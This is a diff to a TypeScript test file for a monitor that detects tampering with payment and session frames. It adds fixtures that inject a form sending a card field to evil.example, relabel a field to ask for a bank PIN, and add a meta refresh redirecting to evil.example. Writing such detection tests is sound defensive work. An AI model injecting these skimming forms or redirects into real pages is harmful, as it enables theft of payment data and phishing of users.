@@ -153,9 +153,15 @@ const MUTATIONS: Record<string, Alter> = {
     '<form',
     '<form action="https://evil.example"',
   ),
+  'the frame has a form more': body(
+    isFrame,
+    '</body>',
+    '<form action="https://evil.example"><input name="card"></form></body>',
+  ),
+  "the frame's words are others": body(isFrame, /<label([^>]*)>[^<]+/, '<label$1>PIN of your bank'),
 }
 
-describe('S-47: the monitor', () => {
+describe('S-46 S-47: the monitor', () => {
   it('is silent where nothing was changed', async () => {
     const { findings, addresses, cardKey } = await watch((_url, answer) => answer)
     expect(findings).toEqual([])
@@ -235,6 +241,11 @@ describe('S-47: the monitor', () => {
           isSession,
           '</body>',
           '<form action="https://evil.example"></form></body>',
+        ),
+        'a refresh is injected': body(
+          isSession,
+          '<meta ',
+          '<meta http-equiv="refresh" content="0;url=//evil.example"><meta ',
         ),
         'the policy allows more': policy(isSession, "connect-src 'self'", 'connect-src *'),
         'a style has a hash and no place': policy(
